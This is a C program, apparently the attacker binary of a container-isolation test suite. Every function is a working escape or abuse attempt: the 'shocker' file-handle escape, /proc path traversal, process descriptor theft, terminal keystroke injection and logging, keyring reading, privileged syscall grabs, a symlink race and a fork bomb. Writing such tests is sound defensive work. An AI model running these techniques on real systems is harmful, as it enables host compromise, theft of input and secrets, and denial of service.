/* What a hostile program in a container does that a shell cannot: `attacker WORD [ARGUMENT...]`. Static. It only tries:
 * whether it has succeeded is looked at from outside of the container. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <time.h>
#include <unistd.h>

/* Prints what a file of the host holds, and leaves a mark beside it. */
static void use(int folder, const char *path) {
  char text[256];
  int fd = openat(folder, path, O_RDONLY);
  ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text);
  if (size > 0) fwrite(text, 1, (size_t)size, stdout), fflush(stdout);
  if (fd >= 0) close(fd);
  fd = openat(folder, path, O_WRONLY | O_APPEND);
  if (fd >= 0 && write(fd, "written", 7) < 0) perror("write");
  if (fd >= 0) close(fd);
}

/* Directories of the host that some process holds open: /proc/PID/fd/N, and up from there. */
static int descriptors(int argc, char **argv) {
  char path[512];
  for (int round = 0; round < 60; round++)
    for (int i = 3; i < argc; i++)
      for (int fd = 3; fd < 48; fd++) {
        snprintf(path, sizeof path, "/proc/%s/fd/%d/../../../../../../../../..%s", argv[i], fd, argv[2]);
        use(AT_FDCWD, path);
        snprintf(path, sizeof path, "/proc/%s/fd/%d%s", argv[i], fd, argv[2]);
        use(AT_FDCWD, path);
      }
  return 0;
}

/* open_by_handle_at(2) of the root of the file system that a path is on: CVE-2014-3519, "shocker". */
static int shocker(char **argv) {
  struct {
    struct file_handle head;
    unsigned int inode, generation;
  } handle = {{8, 1}, 2, 0};
  for (char **place = argv + 3; *place; place++) {
    int on = open(*place, O_RDONLY);
    int root = open_by_handle_at(on, &handle.head, O_RDONLY);
    if (root < 0) perror(*place);
    if (root >= 0) use(root, argv[2] + 1);
  }
  return 0;
}

static _Noreturn int hold(void) {
  puts("holding");
  fflush(stdout);
  for (;;) pause();
}

static int refused(const char *what) {
  perror(what);
  return 1;
}

/* Takes something that a container must not have, and holds it, for others to look at. */
static int take(const char *what, const char *argument) {
  if (!strcmp(what, "bpf")) {
    union bpf_attr attributes = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return syscall(SYS_bpf, BPF_MAP_CREATE, &attributes, sizeof attributes) < 0 ? refused(what) : hold();
  }
  if (!strcmp(what, "perf")) {
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_CPU_CLOCK};
    int fd = (int)syscall(SYS_perf_event_open, &event, 0, -1, -1, 0);
    if (fd < 0) event.exclude_kernel = 1, fd = (int)syscall(SYS_perf_event_open, &event, 0, -1, -1, 0);
    return fd < 0 ? refused(what) : hold();
  }
  if (!strcmp(what, "userfaultfd")) return syscall(SYS_userfaultfd, O_CLOEXEC | 1 /* UFFD_USER_MODE_ONLY */) < 0 ? refused(what) : hold();
  if (!strcmp(what, "io_uring")) {
    char parameters[256] = "";
    return syscall(SYS_io_uring_setup, 8, parameters) < 0 ? refused(what) : hold();
  }
  if (!strcmp(what, "fanotify")) return syscall(SYS_fanotify_init, 0x200 /* FAN_REPORT_FID */, O_RDONLY) < 0 ? refused(what) : hold();
  if (!strcmp(what, "file")) return open(argument, O_RDONLY) < 0 ? refused(argument) : hold();
  if (!strcmp(what, "userns")) return unshare(CLONE_NEWUSER) < 0 ? refused(what) : hold();
  if (!strcmp(what, "userns-mount")) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) return refused(what);
    return mount("attack", "/tmp", "tmpfs", 0, NULL) < 0 ? refused("mount") : hold();
  }
  if (!strcmp(what, "mount")) return mount("attack", "/tmp", "tmpfs", 0, NULL) < 0 ? refused(what) : hold();
  if (!strcmp(what, "overlay")) {
    mount("attack", "/tmp", "tmpfs", 0, NULL);
    mkdir("/tmp/u", 0755), mkdir("/tmp/w", 0755);
    const char *options = "lowerdir=/bin,upperdir=/tmp/u,workdir=/tmp/w";
    return mount("attack", "/tmp", "overlay", 0, options) < 0 ? refused(what) : hold();
  }
  if (!strcmp(what, "packet")) return socket(AF_PACKET, SOCK_RAW, 0) < 0 ? refused(what) : hold();
  if (!strcmp(what, "vsock")) return socket(AF_VSOCK, SOCK_STREAM, 0) < 0 ? refused(what) : hold();
  if (!strcmp(what, "block") || !strcmp(what, "char")) {
    unsigned int major = 0, minor = 0;
    sscanf(argument, "%u:%u", &major, &minor);
    mode_t mode = *what == 'b' ? S_IFBLK : S_IFCHR;
    unlink("/dev/evil"), unlink("/evil");
    if (mknod("/dev/evil", mode | 0666, (dev_t)(major << 8 | minor)) == 0 && open("/dev/evil", O_RDONLY | O_NONBLOCK) >= 0) hold();
    if (mknod("/evil", mode | 0666, (dev_t)(major << 8 | minor)) == 0 && open("/evil", O_RDONLY | O_NONBLOCK) >= 0) hold();
    return refused(what);
  }
  if (!strcmp(what, "inotify")) {
    int count = 0;
    while (inotify_init1(0) >= 0) count++;
    return hold();
  }
  return 2;
}

static int connect_to(const char *kind, const char *where) {
  int fd, error;
  if (!strcmp(kind, "abstract")) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path + 1, where, sizeof address.sun_path - 2);
    fd = socket(AF_UNIX, SOCK_STREAM, 0);
    error = connect(fd, (void *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(where)));
    if (error < 0) error = connect(fd, (void *)&address, sizeof address); /* who fills up with zeros: Node */
  } else {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(where))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    fd = socket(AF_INET, SOCK_STREAM, 0);
    error = connect(fd, (void *)&address, sizeof address);
  }
  return error < 0 ? refused(kind) : 0;
}

/* Keys of the host's user and session keyrings: keyrings(7). `keys add SECRET` puts one there, outside. */
static int keys(const char *word, const char *secret) {
  const int SESSION = -3, USER = -4;
  if (!strcmp(word, "add")) {
    long key = syscall(SYS_add_key, "user", "foster-attack", secret, strlen(secret), USER);
    if (key < 0) return refused("add_key");
    return 0;
  }
  if (!strcmp(word, "remove")) {
    long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, USER, "user", "foster-attack", 0);
    return key < 0 || syscall(SYS_keyctl, 9 /* KEYCTL_UNLINK */, key, USER) < 0;
  }
  char text[256];
  const int rings[] = {SESSION, USER, -5};
  for (int i = 0; i < 3; i++) {
    long key = syscall(SYS_keyctl, 10, rings[i], "user", "foster-attack", 0);
    long size = key < 0 ? -1 : syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, text, sizeof text);
    if (size > 0) fwrite(text, 1, (size_t)size, stdout);
  }
  for (long key = strtol(secret, NULL, 10), end = key + 200; key && key < end; key++) { /* by number */
    long size = syscall(SYS_keyctl, 11, key, text, sizeof text);
    if (size > 0 && size < 200) fwrite(text, 1, (size_t)size, stdout);
  }
  return 0;
}

/* Types a line at the terminal's keyboard, for whoever reads it next: TIOCSTI. */
static int type(const char *line) {
  for (int fd = 0; fd < 3; fd++)
    for (const char *c = line; *c; c++)
      if (ioctl(fd, TIOCSTI, c) < 0) break;
  return 0;
}

/* Stays when its parent has gone, and reads what is typed at the terminal. */
static int listen_to_terminal(void) {
  if (fork() > 0) {
    usleep(200000);
    return 0;
  }
  setpgid(0, 0);
  for (int signal = 1; signal < 32; signal++) sigaction(signal, &(struct sigaction){.sa_handler = SIG_IGN}, NULL);
  char text[256];
  for (int i = 0; i < 3000; i++) {
    ssize_t size = read(0, text, sizeof text);
    if (size > 0) {
      int fd = open("/heard", O_WRONLY | O_CREAT | O_APPEND, 0644);
      if (write(fd, text, (size_t)size) < 0) perror("write");
      close(fd);
    } else {
      usleep(10000);
    }
  }
  return 0;
}

/* Whoever is in this PID namespace: traced, made to give up its descriptors, its memory written. */
static int trace(int argc, char **argv) {
  char path[512];
  for (int pid = 1; pid < 40; pid++) {
    if (pid == getpid()) continue;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 48; fd++) {
      int copy = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
      if (copy < 0) continue;
      for (int i = 2; i < argc; i++) {
        snprintf(path, sizeof path, "../../../../../../../..%s", argv[i]);
        use(copy, path);
      }
    }
    for (int i = 2; i < argc; i++) {
      snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[i]);
      use(AT_FDCWD, path);
      snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../..%s", pid, argv[i]);
      use(AT_FDCWD, path);
    }
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
    int namespace = open(path, O_RDONLY);
    if (namespace >= 0 && fork() == 0) {
      if (setns(namespace, CLONE_NEWNS) == 0)
        for (int i = 2; i < argc; i++) use(AT_FDCWD, argv[i]);
      _exit(0);
    }
    while (waitpid(-1, NULL, WNOHANG) > 0) {}
  }
  return 0;
}

/* A real-time guess at what the host is called, and what time it is. */
static int change_host(const char *name) {
  struct timeval time;
  gettimeofday(&time, NULL);
  time.tv_sec += 86400;
  if (sethostname(name, strlen(name)) < 0) perror("sethostname");
  if (settimeofday(&time, NULL) < 0) perror("settimeofday");
  syscall(SYS_kexec_load, 0, 0, NULL, 0);
  syscall(SYS_init_module, "x", 1, "");
  syscall(SYS_swapoff, "/");
  syscall(SYS_acct, "/acct");
  return 0;
}

/* Swaps a directory and a symbolic link over and over; the pause leaves the processor to those who walk there meanwhile. */
static int swap(const char *place, const char *target) {
  char link[256];
  snprintf(link, sizeof link, "%s.link", place);
  unlink(link);
  if (symlink(target, link) < 0) return refused(link);
  puts("swapping");
  fflush(stdout);
  for (;;) {
    syscall(SYS_renameat2, AT_FDCWD, place, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
    usleep(50);
  }
}

/* Many that nobody waits for, of which each leaves its session. */
static int bomb(int count) {
  for (int i = 0; i < count; i++)
    if (fork() == 0) {
      setsid();
      prctl(PR_SET_PDEATHSIG, 0);
      sigset_t all;
      sigfillset(&all);
      sigprocmask(SIG_SETMASK, &all, NULL);
      if (fork() == 0)
        for (;;) pause();
      _exit(0);
    }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  const char *word = argv[1], *first = argc > 2 ? argv[2] : "", *second = argc > 3 ? argv[3] : "";
  if (!strcmp(word, "use")) return use(AT_FDCWD, first), 0;
  if (!strcmp(word, "descriptors")) return descriptors(argc, argv);
  if (!strcmp(word, "shocker")) return shocker(argv);
  if (!strcmp(word, "take")) return take(first, second);
  if (!strcmp(word, "connect")) return connect_to(first, second);
  if (!strcmp(word, "keys")) return keys(first, second);
  if (!strcmp(word, "type")) return type(first);
  if (!strcmp(word, "listen")) return listen_to_terminal();
  if (!strcmp(word, "trace")) return trace(argc, argv);
  if (!strcmp(word, "change-host")) return change_host(first);
  if (!strcmp(word, "swap")) return swap(first, second);
  if (!strcmp(word, "bomb")) return bomb(atoi(first));
  return 2;
}
